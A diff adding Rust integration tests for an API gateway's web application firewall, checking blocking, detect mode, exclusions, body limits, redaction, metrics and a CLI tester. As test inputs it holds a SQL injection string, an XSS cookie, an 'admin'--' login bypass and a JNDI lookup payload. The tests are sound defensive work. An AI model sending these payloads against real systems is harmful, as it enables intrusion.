@@ -232,3 +232,379 @@ fn rule_file_errors_name_file_line_and_rule() {
 fn path_str(p: &Path) -> String {
     p.display().to_string()
 }
+
+/// `[waf]` with the repository's default rules, plus `extra` lines in the section.
+fn waf_section(extra: &str) -> String {
+    format!(
+        "\n[waf]\nrules = [\"{}\"]\n{extra}\n",
+        path_str(&repo().join("rules/*.toml"))
+    )
+}
+
+/// An upstream that answers with the body it received.
+async fn body_echo() -> Upstream {
+    use http_body_util::BodyExt;
+    upstream(|req: http::Request<hyper::body::Incoming>| async move {
+        let body = req.into_body().collect().await.unwrap().to_bytes();
+        http::Response::new(full(body))
+    })
+    .await
+}
+
+async fn send(
+    c: &mut Sender,
+    method: &str,
+    uri: &str,
+    headers: &[(&str, &str)],
+    body: impl Into<bytes::Bytes>,
+) -> Reply {
+    let mut b = http::Request::builder()
+        .method(method)
+        .uri(uri)
+        .header("host", "localhost");
+    for (n, v) in headers {
+        b = b.header(*n, *v);
+    }
+    Reply::from(c.send(b.body(full(body)).unwrap()).await.unwrap()).await
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_get_403_with_request_id_and_an_event_benign_json_reaches_the_app() {
+    let up = body_echo().await;
+    let gw = TestGateway::start(&base_config(&[up.url()], &waf_section(""))).await;
+    let mut c = gw.tls().h2(gw.addr("https")).await;
+
+    // A benign 2 KiB JSON body: forwarded byte for byte.
+    let doc = serde_json::json!({
+        "name": "Anne-Marie O'Neil", "comment": "Loved it -- will buy again <3; select the blue one",
+        "address": {"street": "12 Rue de l'Église", "city": "Montréal"},
+        "notes": "x".repeat(1800),
+    })
+    .to_string();
+    let req = http::Request::post("https://localhost/orders")
+        .header("content-type", "application/json")
+        .body(full(doc.clone()))
+        .unwrap();
+    let r = Reply::from(c.send(req).await.unwrap()).await;
+    assert_eq!(r.status, 200);
+    assert_eq!(r.text(), doc, "the inspected body reaches the app intact");
+    assert_eq!(up.hits(), 1);
+
+    // SQL injection in a query argument: 403 with the request id, the app never sees it.
+    let r = c.get("/search?q=1%27%20OR%20%271%27=%271").await;
+    assert_eq!(r.status, 403);
+    let rid = r.headers["x-request-id"].to_str().unwrap().to_string();
+    assert_eq!(r.json()["request_id"], rid.as_str());
+    assert_eq!(up.hits(), 1);
+
+    // XSS in a cookie: blocked; the event names the rule and target but never the value.
+    let req = http::Request::get("https://localhost/account")
+        .header("cookie", "theme=<script>alert(1)</script>")
+        .body(full(""))
+        .unwrap();
+    let r = Reply::from(c.send(req).await.unwrap()).await;
+    assert_eq!(r.status, 403);
+    assert_eq!(up.hits(), 1);
+
+    let events = events_of(&gw, "waf_blocked").await;
+    assert_eq!(events.len(), 2, "{events:#?}");
+    let sqli = events.iter().find(|e| e["path"] == "/search").unwrap();
+    assert_eq!(sqli["request_id"], rid.as_str());
+    let ids: Vec<&str> = sqli["rule_ids"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    assert!(ids.contains(&"4201"), "{ids:?}");
+    assert!(sqli["details"]["targets"]
+        .as_str()
+        .unwrap()
+        .contains("4201:args:q"));
+    assert!(sqli["details"]["match.4201"]
+        .as_str()
+        .unwrap()
+        .contains("1' OR '1'='1"));
+    assert_eq!(sqli["risk"], "critical");
+    let xss = events.iter().find(|e| e["path"] == "/account").unwrap();
+    let text = xss.to_string();
+    assert!(text.contains("cookies:theme"), "{text}");
+    assert!(
+        !text.contains("alert(1)"),
+        "cookie value must be redacted: {text}"
+    );
+    assert!(text.contains("[redacted"), "{text}");
+
+    // Metrics count the verdicts and the rules.
+    let m = admin(&gw, "GET", "/metrics", Some(TOKEN)).await.text();
+    assert!(
+        m.contains("gateway_waf_inspections_total{result=\"blocked\"} 2"),
+        "{m}"
+    );
+    assert!(
+        m.contains("gateway_waf_inspections_total{result=\"clean\"} 1"),
+        "{m}"
+    );
+    assert!(
+        m.contains("gateway_waf_rule_matches_total{rule=\"4201\"}"),
+        "{m}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_forwards_and_reports_and_exclusions_silence_a_rule_on_a_path() {
+    let up = body_echo().await;
+    let extra = format!(
+        r#"
+[[routes]]
+name = "legacy"
+path_prefix = "/legacy"
+upstream = "app"
+waf = "detect"
+
+[[routes]]
+name = "docs"
+path_prefix = "/docs"
+upstream = "app"
+{}
+[[waf.exclusions]]
+rules = [4201, 4203, 4210]
+routes = ["docs"]
+path_prefix = "/docs/sql"
+target = "args:example"
+"#,
+        waf_section("")
+    );
+    let gw = TestGateway::start(&base_config(&[up.url()], &extra)).await;
+    let mut c = Sender::plain(gw.addr("http")).await;
+    let attack = "1%27%20OR%20%271%27=%271";
+
+    // Detect: forwarded, reported as waf_detected.
+    let r = c.get(&format!("/legacy/search?q={attack}")).await;
+    assert_eq!(r.status, 200);
+    assert_eq!(up.hits(), 1);
+    let detected = events_of(&gw, "waf_detected").await;
+    assert_eq!(detected.len(), 1);
+    assert_eq!(detected[0]["route"], "legacy");
+    assert!(events_of(&gw, "waf_blocked").await.is_empty());
+
+    // Excluded target on the excluded path: passes; another argument, or another path: 403.
+    assert_eq!(
+        c.get(&format!("/docs/sql/intro?example={attack}"))
+            .await
+            .status,
+        200
+    );
+    assert_eq!(
+        c.get(&format!("/docs/sql/intro?q={attack}")).await.status,
+        403
+    );
+    assert_eq!(
+        c.get(&format!("/docs/other?example={attack}")).await.status,
+        403
+    );
+    assert_eq!(
+        c.get(&format!("/search?example={attack}")).await.status,
+        403
+    );
+    assert_eq!(up.hits(), 2);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bodies_beyond_the_inspection_limit_fail_closed_or_are_inspected_in_part() {
+    let up = body_echo().await;
+    // Default policy: block (413), whether the length is declared or not.
+    let gw = TestGateway::start(&base_config(&[up.url()], &waf_section("body_limit = 1024"))).await;
+    let mut c = Sender::plain(gw.addr("http")).await;
+    let big = "a=".to_string() + &"x".repeat(4000);
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let r = send(&mut c, "POST", "/form", &form, big.clone()).await;
+    assert_eq!(r.status, 413);
+    let mut c = gw.tls().h2(gw.addr("https")).await;
+    let chunks: Vec<Result<http_body::Frame<bytes::Bytes>, std::convert::Infallible>> = (0..8)
+        .map(|_| Ok(http_body::Frame::data(bytes::Bytes::from("x".repeat(512)))))
+        .collect();
+    use http_body_util::BodyExt;
+    let streamed = http_body_util::StreamBody::new(futures_util::stream::iter(chunks))
+        .map_err(|never| match never {})
+        .boxed();
+    let req = http::Request::post("https://localhost/stream")
+        .header("content-type", "text/plain")
+        .body(streamed)
+        .unwrap();
+    let r = Reply::from(c.send(req).await.unwrap()).await;
+    assert_eq!(
+        r.status, 413,
+        "no declared length: refused once the limit is passed"
+    );
+    // A body within the limit passes.
+    let mut c = Sender::plain(gw.addr("http")).await;
+    assert_eq!(
+        send(&mut c, "POST", "/form", &form, "a=hello").await.status,
+        200
+    );
+    assert_eq!(up.hits(), 1);
+    let blocked = events_of(&gw, "waf_blocked").await;
+    assert!(
+        blocked.iter().any(|e| e["rule_ids"][0] == "104"),
+        "{blocked:#?}"
+    );
+    gw.shutdown().await;
+
+    // inspect_partial: the beginning is inspected, the whole body is forwarded.
+    let gw = TestGateway::start(&base_config(
+        &[up.url()],
+        &waf_section("body_limit = 1024\nover_limit = \"inspect_partial\""),
+    ))
+    .await;
+    let mut c = Sender::plain(gw.addr("http")).await;
+    let r = send(&mut c, "POST", "/form", &form, big.clone()).await;
+    assert_eq!(r.status, 200);
+    assert_eq!(r.text(), big, "the whole body reaches the app");
+    let attack = "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=".to_string() + &"x".repeat(4000);
+    assert_eq!(
+        send(&mut c, "POST", "/form", &form, attack).await.status,
+        403
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn broken_json_and_argument_floods_fail_closed_and_pass_rules_allow() {
+    let up = body_echo().await;
+    let dir = tempfile::tempdir().unwrap();
+    let allow = dir.path().join("allow.toml");
+    std::fs::write(
+        &allow,
+        "[[rules]]\nid = 9001\nmsg = \"health checks are never inspected\"\ntargets = [\"path\"]\nmatch = { equals = \"/healthz\" }\naction = \"pass\"\n",
+    )
+    .unwrap();
+    let extra = format!(
+        "\n[waf]\nrules = [\"{}\", \"{}\"]\nmax_args = 20\n",
+        path_str(&repo().join("rules/*.toml")),
+        path_str(&allow)
+    );
+    let gw = TestGateway::start(&base_config(&[up.url()], &extra)).await;
+    let mut c = Sender::plain(gw.addr("http")).await;
+    let json = [("content-type", "application/json")];
+    assert_eq!(
+        send(&mut c, "POST", "/api", &json, "{\"a\": [1, 2")
+            .await
+            .status,
+        403
+    );
+    assert_eq!(
+        send(&mut c, "POST", "/api", &json, "{\"a\": [1, 2]}")
+            .await
+            .status,
+        200
+    );
+    let many: Vec<String> = (0..30).map(|i| format!("a{i}=1")).collect();
+    assert_eq!(
+        c.get(&format!("/list?{}", many.join("&"))).await.status,
+        403
+    );
+    assert_eq!(c.get("/healthz?q=%3Cscript%3E").await.status, 200);
+    assert_eq!(c.get("/other?q=%3Cscript%3E").await.status, 403);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn waf_test_command_prints_one_verdict_per_request() {
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("gateway.toml");
+    std::fs::write(
+        &cfg,
+        base_config(&["http://127.0.0.1:9".to_string()], &waf_section("")),
+    )
+    .unwrap();
+    let attack = dir.path().join("attack.http");
+    std::fs::write(
+        &attack,
+        "POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 28\r\n\r\nuser=admin%27--&password=x\r\n",
+    )
+    .unwrap();
+    let benign = dir.path().join("benign.http");
+    std::fs::write(
+        &benign,
+        "GET /search?q=O%27Reilly+books HTTP/1.1\nHost: localhost\nUser-Agent: Mozilla/5.0\n\n",
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gateway"))
+        .args(["waf", "test", "--config"])
+        .arg(&cfg)
+        .arg(&attack)
+        .arg(&benign)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 2);
+    assert_eq!(lines[0]["verdict"], "block");
+    assert!(lines[0]["score"].as_u64().unwrap() >= 5);
+    assert!(lines[0]["rules"]
+        .as_array()
+        .unwrap()
+        .contains(&serde_json::json!(4201)));
+    assert_eq!(lines[0]["matches"][0]["target"], "args:user");
+    assert_eq!(lines[1]["verdict"], "pass");
+    assert_eq!(lines[1]["score"], 0);
+
+    // From stdin.
+    use std::io::Write;
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_gateway"))
+        .args(["waf", "test", "--config"])
+        .arg(&cfg)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(b"GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["file"], "-");
+    assert_eq!(v["rules"], serde_json::json!([3401]));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_bad_rule_file_stops_the_config_with_exit_code_2() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).unwrap();
+    std::fs::write(
+        rules.join("mine.toml"),
+        "[[rules]]\nid = 7001\nmsg = \"x\"\ntargets = [\"args\"]\nmatch = { regex = \"a{99999999}\" }\n",
+    )
+    .unwrap();
+    let cfg = dir.path().join("gateway.toml");
+    std::fs::write(
+        &cfg,
+        base_config(
+            &["http://127.0.0.1:9".to_string()],
+            "\n[waf]\nrules = [\"rules/*.toml\"]\n",
+        ),
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gateway"))
+        .args(["check", "--config"])
+        .arg(&cfg)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("mine.toml:5:") && err.contains("rule 7001"),
+        "{err}"
+    );
+}
